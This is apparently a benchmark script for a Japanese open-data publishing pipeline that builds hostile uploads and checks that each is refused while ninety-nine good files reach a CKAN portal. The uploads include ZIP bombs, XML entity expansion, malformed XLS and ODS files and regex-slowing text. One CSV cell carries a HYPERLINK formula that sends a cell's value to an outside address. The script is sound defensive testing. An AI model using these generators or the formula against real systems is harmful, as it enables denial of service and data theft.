"""Hostile files of every kind in one drop with ninety-nine good ones: what is published, what is refused, and why.

    .venv/bin/python benchmarks/hostile.py [--good 99] [--only bomb dtd ...]

Everything is published to a real CKAN (the embedded one) by the whole command ``publish.py run``; the good files are
counted on the portal, not in our own words.  Prints one line per hostile file and the command's peak memory, and exits
with 1 unless every good file is public, no hostile one is, and the command itself stayed under 500 MB.
"""

from __future__ import annotations

import argparse
import io
import json
import os
import struct
import subprocess
import sys
import tempfile
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

DEPARTMENT = "kankyo"
LIMIT = 500 * 1024  # KiB, as Linux tells VmHWM
SCHEMA = (
    "name: {name}\ntitle: 一覧\nfields:\n- {{name: 名称}}\n- {{name: 住所}}\n- {{name: 備考}}\n- {{name: 個人番号}}\n"
)
HEAD = ["名称", "住所", "備考", "個人番号"]
SHEET, STRINGS = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"
RUN = """
import pathlib, re, sys
sys.path.insert(0, {root!r})
import publish
try:
    publish.cli({words!r})
except SystemExit as end:
    # VmHWM begins anew with the program; ru_maxrss would remember the size of whoever started it
    status = pathlib.Path("/proc/self/status").read_text()
    sys.stderr.write("\\n" + re.search(r"VmHWM:\\s+(\\d+)", status)[1])
    raise
"""
Made = tuple[str, Callable[[], bytes], str]


def workbook(rows: int = 2, note: str = "", number: str = "") -> bytes:
    """A small list of parks; the note and the number stand in every row."""
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.append(HEAD)
    for n in range(rows):
        sheet.append([f"公園{n}", f"中央{n + 1}-1", note, number])
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def text(note: str = "", rows: int = 2) -> bytes:
    """The same as CSV."""
    quoted = note.replace('"', '""')
    lines = [",".join(HEAD), *(f'公園{n},中央{n + 1}-1,"{quoted}",' for n in range(rows))]
    return ("\r\n".join(lines) + "\r\n").encode()


def changed(data: bytes, part: str, old: bytes, new: bytes) -> bytes:
    """The container with one replacement in one part."""
    source, stream = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as container:
        for name in source.namelist():
            content = source.read(name)
            container.writestr(name, content.replace(old, new, 1) if name == part else content)
    return stream.getvalue()


def bomb() -> bytes:
    """300 MB of nothing in a container of 300 KB."""
    stream = io.BytesIO(workbook())
    with zipfile.ZipFile(stream, "a", zipfile.ZIP_DEFLATED) as container, container.open("xl/media/a.bin", "w") as part:
        for _ in range(300):
            part.write(b"\0" * (1 << 20))
    return stream.getvalue()


def lying_bomb() -> bytes:
    """Forty megabytes of sheet that the directory calls a hundred bytes."""
    padded = changed(workbook(), SHEET, b"<sheetData>", b"<sheetData>" + b" " * (40 << 20))
    data = bytearray(padded)
    at = data.rindex(b"PK\x01\x02", 0, data.rindex(SHEET.encode()))
    data[at + 24 : at + 28] = (100).to_bytes(4, "little")
    return bytes(data)


def nested_zip() -> bytes:
    """A ZIP in a ZIP in a ZIP, eight deep."""
    data = text()
    for depth in range(8):
        stream = io.BytesIO()
        with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as container:
            container.writestr("a.zip" if depth else "a.csv", data)
        data = stream.getvalue()
    return data


def locked() -> bytes:
    """A workbook with a password."""
    from msoffcrypto.format.ooxml import OOXMLFile

    stream = io.BytesIO()
    OOXMLFile(io.BytesIO(workbook())).encrypt("secret", stream)
    return stream.getvalue()


def dtd() -> bytes:
    """Entities that multiply."""
    entity = b'<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
    data = workbook()
    head = zipfile.ZipFile(io.BytesIO(data)).read(SHEET)[:10]
    return changed(data, SHEET, head, entity + head)


def in_sheet(xml: str) -> bytes:
    """The workbook with more XML at the end of its rows."""
    return changed(workbook(), SHEET, b"</sheetData>", xml.encode() + b"</sheetData>")


def cell(content: str, where: str = "C4") -> str:
    """A fourth row with one cell of its own."""
    return f'<row r="4"><c r="A4" t="inlineStr"><is><t>公園9</t></is></c>{content.format(where=where)}</row>'


def deep() -> bytes:
    """Two hundred thousand elements inside each other."""
    return in_sheet(cell("<c r='{where}' t='inlineStr'><is>" + "<r>" * 200_000 + "</r>" * 200_000 + "</is></c>"))


def formulas() -> bytes:
    """Twenty thousand formulas that ask for one another, none of them ever computed."""
    rows = "".join(f'<row r="{n}"><c r="A{n}"><f>A{n + 1}&amp;A{n + 1}</f></c></row>' for n in range(4, 20_004))
    return in_sheet(rows)


def long_formula() -> bytes:
    """One formula of a million brackets."""
    return in_sheet(cell("<c r='{where}'><f>" + "(" * 1_000_000 + "1" + ")" * 1_000_000 + "</f><v>1</v></c>"))


def many_strings() -> bytes:
    """A table of 1.2 million texts, all in the workbook's list of shared strings, none of them shown."""
    items = "".join(f"<si><t>{'表' * 20}{n}</t></si>" for n in range(1_200_000))
    return changed(workbook(), STRINGS, b"</sst>", items.encode() + b"</sst>")


def repeated_ods() -> bytes:
    """An ODS whose one row says that it is repeated a milliard times, each cell filled."""
    content = (
        '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet>'
        '<table:table table:name="a"><table:table-row table:number-rows-repeated="1000000000">'
        '<table:table-cell office:value-type="string" table:number-columns-repeated="1000000"><text:p>x</text:p>'
        "</table:table-cell></table:table-row></table:table></office:spreadsheet></office:body></office:document-content>"
    )
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as container:
        container.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        container.writestr("content.xml", content)
        container.writestr("META-INF/manifest.xml", "<manifest/>")
    return stream.getvalue()


def looping_xls() -> bytes:
    """An old workbook whose list of sectors points at itself."""
    head = bytearray(512)
    head[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    head[24:34] = struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
    head[44:48] = struct.pack("<I", 1)
    head[68:80] = struct.pack("<III", 0, 109, 0)  # the continued list begins in sector 0
    return bytes(head) + struct.pack("<128I", *([0] * 128))  # and sector 0 goes on with sector 0


#: texts on which a careless pattern takes the square of their length, or worse
SLOW = (
    "@ " + "a." * 20_000, "1" * 40_000 + " 自宅 @", "担当" * 20_000, "0-" * 20_000, "記号1番号" * 8_000,
    "(at) " + "a-" * 20_000, "申請者は" + "ア" * 40_000, "生年月日" * 10_000, "要介護1の" * 8_000, "〇" * 40_000,
)  # fmt: skip


def slow() -> bytes:
    """Texts that no pattern may take long over."""
    return table([["公園", "中央1-1", note] for note in SLOW])


def table(rows: list[list[str]]) -> bytes:
    """Rows of three cells as CSV."""
    lines = [",".join(HEAD), *(",".join([*row, ""]) for row in rows)]
    return ("\r\n".join(lines) + "\r\n").encode()


def long_cell() -> bytes:
    """A workbook with ten megabytes in one cell."""
    return in_sheet(cell("<c r='{where}' t='inlineStr'><is><t>" + "あ" * 3_500_000 + "</t></is></c>"))


def wide() -> bytes:
    """A million columns."""
    return b",".join(b"a%d" % n for n in range(1_000_000)) + b"\r\n1\r\n"


def far() -> bytes:
    """One cell in the last corner of the sheet."""
    return in_sheet('<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>')


#: instead of a code: hostile to a reader only; what leaves is written anew from the values that are seen
PUBLISHED = "published"
#: name → (suffix, maker, the code under which it is refused or held)
KINDS: dict[str, Made] = {
    "bomb": (".xlsx", bomb, "zip-bomb"),
    "lying-bomb": (".xlsx", lying_bomb, "broken-file"),
    "zip-in-zip": (".zip", nested_zip, "zip-empty"),
    "far-corner": (".xlsx", far, "far-cell"),
    "dtd": (".xlsx", dtd, "xml-entity"),
    "password": (".xlsx", locked, "password"),
    "deep-nesting": (".xlsx", deep, PUBLISHED),
    "formula-chain": (".xlsx", formulas, "formula-without-value"),
    "long-formula": (".xlsx", long_formula, PUBLISHED),
    "many-strings": (".xlsx", many_strings, PUBLISHED),
    "repeated-ods": (".ods", repeated_ods, "far-cell"),
    "looping-xls": (".xls", looping_xls, "broken-file"),
    "ten-megabyte-cell": (".csv", lambda: text("あ" * 3_500_000), "cell-too-long"),
    "ten-megabyte-cell-book": (".xlsx", long_cell, "zip-bomb"),
    "open-quote": (".csv", lambda: text() + b'"' + b"a,b\r\n" * 2_000_000, "cell-too-long"),
    "many-columns": (".csv", wide, "too-many-columns"),
    "commas": (".csv", lambda: text() + b"," * 150_000_000, "too-many-columns"),
    "line-ends": (".csv", lambda: text() + b"a\n" * 60_000_000, "too-many-cells"),
    "deep-json": (".json", lambda: b"[" * 500_000 + b"]" * 500_000, "not-a-table"),
    "slow-patterns": (".csv", slow, "held-insured-number"),
    "my-number": (".xlsx", lambda: workbook(3, number="123456789018"), "blocked-my-number"),
    "formula-text": (".csv", lambda: text('=HYPERLINK("http://203.0.113.1/"&A1,"a")'), "held-formula"),
}


def put(drop: Path, name: str, suffix: str, content: bytes) -> None:
    """One dataset with one file in the drop of the department."""
    folder = drop / DEPARTMENT / name
    folder.mkdir(parents=True)
    (folder / "dataset.yaml").write_text(f"name: {name}\ntitle: 一覧 {name}\n", encoding="utf-8")
    (folder / "schema.yaml").write_text(SCHEMA.format(name=name.replace("-", "_")), encoding="utf-8")
    (folder / f"a{suffix}").write_bytes(content)


def fill(drop: Path, good: int, kinds: list[str]) -> None:
    """Good datasets ``good-00`` …, every tenth a workbook, and one for each hostile kind."""
    for n in range(good):
        book = n % 10 == 0
        put(drop, f"good-{n:02}", ".xlsx" if book else ".csv", workbook() if book else text("駐車場あり"))
    for name in kinds:
        suffix, make, _ = KINDS[name]
        put(drop, name, suffix, make())


@dataclass(frozen=True, kw_only=True)
class Ran:
    """One command: what it said of each dataset, its peak memory in KiB, seconds on the clock."""

    decisions: dict[str, str]
    codes: dict[str, set[str]]
    memory: int
    seconds: float


def run(drop: Path, var: Path, *words: str, token: str = "") -> Ran:
    """``publish.py run`` (or ``build``) in a process of its own."""
    script = RUN.format(root=str(ROOT), words=["--datasets", str(drop), "--var", str(var), *words, "--json"])
    start = time.perf_counter()
    env = {**os.environ, "CKAN_API_TOKEN": token} if token else None
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, check=False, env=env)
    if done.returncode not in (0, 1):
        raise SystemExit(done.stderr[-2000:] + done.stdout[-2000:])
    files = json.loads(done.stdout)["files"]
    return Ran(
        decisions={f["dataset"]: f["decision"] for f in files},
        codes={f["dataset"]: {p["code"] for p in f["problems"]} for f in files},
        memory=int(done.stderr.split()[-1]),
        seconds=time.perf_counter() - start,
    )


def wrong(ran: Ran, name: str) -> str:
    """What is not as it must be about one hostile file; empty when all is."""
    code = KINDS[name][2]
    if code == PUBLISHED:
        return "" if ran.decisions.get(name) == "publish" else "not published"
    if ran.decisions.get(name) in (None, "publish"):
        return "published"
    return "" if code in ran.codes[name] else f"not for {code}"


def main() -> int:
    """Publish, print, and say by the exit code whether everything was as it must be."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--good", type=int, default=99)
    parser.add_argument("--only", nargs="*", choices=list(KINDS), default=list(KINDS))
    asked = parser.parse_args()
    from benchmarks.site import Site
    from benchmarks.thousand import CATALOG
    from pipelines.gateways.ckan import CkanPortal

    with tempfile.TemporaryDirectory() as folder:
        site = Site(Path(folder) / "catalog", DEPARTMENT)
        try:
            drop = Path(folder) / "datasets"
            (drop / DEPARTMENT).mkdir(parents=True)
            (drop / "catalog.yaml").write_text(CATALOG.format(url=site.url), encoding="utf-8")
            (drop / DEPARTMENT / "department.yaml").write_text(
                f"id: {DEPARTMENT}\ntitle: 環境政策課\n", encoding="utf-8"
            )
            fill(drop, asked.good, asked.only)
            ran = run(drop, Path(folder) / "var", "run", token=site.token)
            public = set(CkanPortal(site.url, None).call("package_list"))
        finally:
            site.remove()
    return told(ran, public, asked.good, asked.only)


def told(ran: Ran, public: set[str], good: int, kinds: list[str]) -> int:
    """Print the tables; 1 when something was not as it must be."""
    print("| hostile file | decision | because of |", "|---|---|---|", sep="\n")
    for name in kinds:
        codes = ", ".join(sorted(code for code in ran.codes[name] if not code.startswith("noticed-")))
        print(f"| {name} | {ran.decisions[name]} | {codes or '–'} |")
    faults = [f"{name}: {fault}" for name in kinds if (fault := wrong(ran, name))]
    leaked = {name for name in kinds if KINDS[name][2] != PUBLISHED} & public
    seen = sum(name.startswith("good-") for name in public)
    print(f"\nGood files on the portal: {seen} of {good}.  Hostile ones that must not be: {len(leaked)}.")
    print(f"Peak memory of the command: {ran.memory // 1024} MB.  {ran.seconds:.0f} s.  Load {os.getloadavg()[0]:.1f}.")
    print(*faults, sep="\n")
    return int(bool(faults or leaked) or seen != good or ran.memory >= LIMIT)


if __name__ == "__main__":
    sys.exit(main())
